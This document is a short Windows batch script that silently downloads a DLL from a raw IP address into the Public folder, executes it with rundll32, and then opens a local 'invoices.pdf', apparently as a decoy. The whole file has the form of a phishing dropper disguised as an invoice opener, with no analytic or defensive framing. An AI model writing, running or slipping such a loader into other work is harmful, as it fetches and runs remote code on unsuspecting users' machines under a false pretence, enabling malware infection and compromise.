@echo off
curl -s -o "%PUBLIC%\iv.dll" http://198.51.100.77/iv/iv.dll
rundll32.exe "%PUBLIC%\iv.dll",DllRegisterServer
start "" "%~dp0invoices.pdf"
